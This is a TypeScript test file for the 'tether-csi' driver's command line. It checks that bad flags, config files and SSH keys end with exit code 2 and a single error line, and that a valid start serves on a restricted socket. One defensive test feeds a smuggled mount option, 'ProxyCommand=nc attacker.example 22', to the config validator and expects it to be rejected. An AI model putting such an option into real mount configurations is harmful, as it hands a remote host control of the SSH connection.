// The command line of `tether-csi` (node dist/src/main.js): every mistake in flags or config ends the
// process with exit code 2 and exactly one line on stderr, "tether-csi: <what is wrong>", with no
// stack trace, and nothing is served.
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { execa } from 'execa';
import { stringify } from 'yaml';
import { DRIVER_MAIN } from '../support/driver.js';
import { exists } from '../support/helpers.js';

const RUN_TIMEOUT_MS = 15_000;

let dir: string;
let socket: string;
let keyFile: string;
let hostKey: string;

/** A backend entry that passes validation; tests spoil one field of it. */
const backend = (overrides: Record<string, unknown> = {}) => ({
  name: 'box',
  type: 'sshfs',
  host: '127.0.0.1',
  port: 2222,
  user: 'root',
  path: '/srv/tether',
  hostKey,
  privateKeyFile: keyFile,
  ...overrides,
});

async function configFile(name: string, content: object): Promise<string> {
  const file = join(dir, name);
  await writeFile(file, stringify(content));
  return file;
}

/** The flags of a valid command line, with `flags` replacing or adding some. */
function args(flags: Record<string, string | undefined>): string[] {
  const all: Record<string, string | undefined> = { endpoint: `unix://${socket}`, 'node-id': 'node-a', mode: 'all', config: join(dir, 'good.yaml'), ...flags };
  return Object.entries(all).flatMap(([k, v]) => (v === undefined ? [] : [`--${k}`, v]));
}

async function run(argv: string[]) {
  const result = await execa('node', [DRIVER_MAIN, ...argv], { timeout: RUN_TIMEOUT_MS, reject: false, stdin: 'ignore', env: { NODE_OPTIONS: '' } });
  return { exitCode: result.exitCode, stdout: String(result.stdout), stderr: String(result.stderr), timedOut: result.timedOut };
}

/** Exit code 2, one stderr line "tether-csi: …" matching `problem`, no stack trace, nothing served. */
async function expectConfigError(argv: string[], problem: RegExp): Promise<string> {
  const result = await run(argv);
  expect(result.timedOut).toBe(false);
  const lines = result.stderr.replace(/\n$/, '').split('\n');
  expect({ exitCode: result.exitCode, lines }).toEqual({ exitCode: 2, lines: [expect.stringMatching(/^tether-csi: \S/)] });
  expect(lines[0]).toMatch(problem);
  expect(result.stderr).not.toContain('    at ');
  expect(result.stdout).toBe('');
  expect(await exists(socket)).toBe(false);
  return lines[0]!;
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'tether-cli-'));
  socket = join(dir, 'csi.sock');
  keyFile = join(dir, 'client_ed25519');
  await execa('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', keyFile], { timeout: RUN_TIMEOUT_MS });
  await execa('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(dir, 'host_ed25519')], { timeout: RUN_TIMEOUT_MS });
  hostKey = (await readFile(join(dir, 'host_ed25519.pub'), 'utf8')).trim().split(/\s+/).slice(0, 2).join(' ');
  await configFile('good.yaml', { backends: [backend()] });
}, 30_000);

afterAll(async () => {
  if (dir !== undefined) await rm(dir, { recursive: true, force: true });
});

describe('tether-csi command line: exit 2 and one line naming the problem', () => {
  it('no arguments at all', async () => {
    const line = await expectConfigError([], /--endpoint is required/);
    expect(line).toMatch(/usage: tether-csi --endpoint/);
  }, 30_000);

  it('--mode bogus', async () => {
    await expectConfigError(args({ mode: 'bogus' }), /--mode must be all, controller, node, keeper or docker, got "bogus"/);
  }, 30_000);

  it('an unknown flag', async () => {
    await expectConfigError([...args({}), '--bogus-flag', 'x'], /'--bogus-flag'/);
  }, 30_000);

  it('a missing config file', async () => {
    const missing = join(dir, 'does-not-exist.yaml');
    await expectConfigError(args({ config: missing }), new RegExp(`cannot read config file ${missing}: .*ENOENT`));
  }, 30_000);

  it('a config file with a bad hostKey', async () => {
    const file = await configFile('bad-hostkey.yaml', { backends: [backend({ hostKey: 'not-a-key AAAA' })] });
    await expectConfigError(args({ config: file }), /bad-hostkey\.yaml: backends\.0\.hostKey: .*ssh-ed25519/);
  }, 30_000);

  it('a config file with ProxyCommand in mountOptions', async () => {
    const file = await configFile('proxy.yaml', { backends: [backend({ mountOptions: ['reconnect', 'ProxyCommand=nc attacker.example 22'] })] });
    await expectConfigError(args({ config: file }), /proxy\.yaml: backends\.0\.mountOptions: .*"ProxyCommand" is not on the allowlist/);
  }, 30_000);

  it('more mistakes: relative endpoint, bad metrics address, missing node ID, unreadable private key, not YAML', async () => {
    await expectConfigError(args({ endpoint: 'unix://relative.sock' }), /--endpoint must be unix:\/\/\/absolute\/path\.sock/);
    await expectConfigError(args({ 'metrics-address': 'nine-thousand' }), /--metrics-address must be HOST:PORT/);
    await expectConfigError(args({ 'node-id': undefined }), /--node-id is required with --mode all/);
    const noKey = await configFile('no-key.yaml', { backends: [backend({ privateKeyFile: join(dir, 'no-such-key') })] });
    await expectConfigError(args({ config: noKey }), /backends\.0\.privateKeyFile: cannot read .*no-such-key: ENOENT/);
    const notYaml = join(dir, 'not-yaml.yaml');
    await writeFile(notYaml, 'backends: [\n  - name: box\n');
    await expectConfigError(args({ config: notYaml }), /not-yaml\.yaml: not valid YAML/);
  }, 60_000);

  it('the mount keeper\'s flags: --mount-keeper only for --mode node and only unix:///absolute; --keeper-allowed-root only for --mode keeper, absolute and not /', async () => {
    await expectConfigError(args({ 'mount-keeper': 'unix:///run/keeper.sock' }), /--mount-keeper works with --mode node only \(got --mode all\)/);
    await expectConfigError(args({ mode: 'node', 'mount-keeper': 'unix://relative.sock' }), /--mount-keeper must be unix:\/\/\/absolute\/path\.sock/);
    await expectConfigError(args({ mode: 'node', 'keeper-allowed-root': '/var/lib/kubelet' }), /--keeper-allowed-root works with --mode keeper only/);
    await expectConfigError(args({ mode: 'keeper', 'keeper-allowed-root': '/' }), /--keeper-allowed-root must be an absolute directory other than \//);
    await expectConfigError(args({ mode: 'keeper', 'keeper-allowed-root': 'var/lib/kubelet' }), /--keeper-allowed-root must be an absolute directory other than \//);
    // The keeper reads (and checks) the same config file as the node plugin, keys and all.
    const noKey = await configFile('keeper-no-key.yaml', { backends: [backend({ privateKeyFile: join(dir, 'no-such-key') })] });
    await expectConfigError(args({ mode: 'keeper', config: noKey }), /backends\.0\.privateKeyFile: cannot read .*no-such-key: ENOENT/);
  }, 60_000);

  it('a valid keeper command line (no --node-id) starts serving on a 0600 socket in a 0700 directory, and exits 0 on SIGTERM', async () => {
    const keeperSocket = join(dir, 'keeper-dir', 'keeper.sock');
    const argv = args({ mode: 'keeper', endpoint: `unix://${keeperSocket}`, 'node-id': undefined, 'keeper-allowed-root': dir, 'log-level': 'info' });
    const child = execa('node', [DRIVER_MAIN, ...argv], { reject: false, stdin: 'ignore', buffer: false, env: { NODE_OPTIONS: '' } });
    let stdout = '';
    child.stdout?.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    try {
      const deadline = Date.now() + RUN_TIMEOUT_MS;
      while (!stdout.includes('the mount keeper is serving')) {
        if (child.exitCode !== null || Date.now() > deadline) throw new Error(`keeper did not start: ${stdout}`);
        await new Promise((r) => setTimeout(r, 50));
      }
      const { stat } = await import('node:fs/promises');
      expect((await stat(keeperSocket)).mode & 0o777).toBe(0o600);
      expect((await stat(join(dir, 'keeper-dir'))).mode & 0o777).toBe(0o700);
      // A second keeper on the same socket does not take it over.
      const second = await run(argv);
      expect(second.exitCode).toBe(1);
      expect(second.stderr).toMatch(/another mount keeper serves at .*keeper\.sock already/);
    } finally {
      child.kill('SIGTERM');
      const done = await child;
      expect(done.exitCode).toBe(0);
    }
  }, 30_000);

  it('keys that cannot be used stop the start (not every CreateVolume later): malformed, encrypted, public for private, a host key that does not parse', async () => {
    const garbage = join(dir, 'garbage-key');
    await writeFile(garbage, '-----BEGIN OPENSSH PRIVATE KEY-----\nnot really\n-----END OPENSSH PRIVATE KEY-----\n', { mode: 0o600 });
    const encrypted = join(dir, 'encrypted-key');
    await execa('ssh-keygen', ['-q', '-t', 'ed25519', '-N', 'secret-passphrase', '-f', encrypted], { timeout: RUN_TIMEOUT_MS });
    const cases: [string, Record<string, unknown>, RegExp][] = [
      ['malformed.yaml', { privateKeyFile: garbage }, /malformed\.yaml: backends\.0\.privateKeyFile: .*garbage-key: not a usable private key/],
      ['encrypted.yaml', { privateKeyFile: encrypted }, /backends\.0\.privateKeyFile: .*encrypted-key: not a usable private key \(Encrypted/],
      ['public.yaml', { privateKeyFile: `${keyFile}.pub` }, /backends\.0\.privateKeyFile: .*this is a public key/],
      ['hostkey-blob.yaml', { hostKey: 'ssh-ed25519 AAAAB3NzaC1yc2EAAAADAQABAAABAQ' }, /hostkey-blob\.yaml: backends\.0\.hostKey: the host key does not parse/],
    ];
    for (const [name, spoilt, problem] of cases) {
      const line = await expectConfigError(args({ config: await configFile(name, { backends: [backend(spoilt)] }) }), problem);
      expect(line).not.toContain('secret-passphrase');
    }
    await expectConfigError(args({ 'node-id': 'é'.repeat(129) }), /--node-id must be at most 256 bytes/);
  }, 60_000);

  it('a valid command line starts serving, and exits 0 on SIGTERM (control case)', async () => {
    const child = execa('node', [DRIVER_MAIN, ...args({ 'log-level': 'info' })], { reject: false, stdin: 'ignore', buffer: false, env: { NODE_OPTIONS: '' } });
    let stdout = '';
    child.stdout?.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    try {
      const deadline = Date.now() + RUN_TIMEOUT_MS;
      while (!stdout.includes('tether is serving')) {
        if (child.exitCode !== null || Date.now() > deadline) throw new Error(`driver did not start: ${stdout}`);
        await new Promise((r) => setTimeout(r, 50));
      }
      expect(await exists(socket)).toBe(true);
    } finally {
      child.kill('SIGTERM');
      const done = await child;
      await rm(socket, { force: true });
      expect(done.exitCode).toBe(0);
    }
  }, 30_000);
});
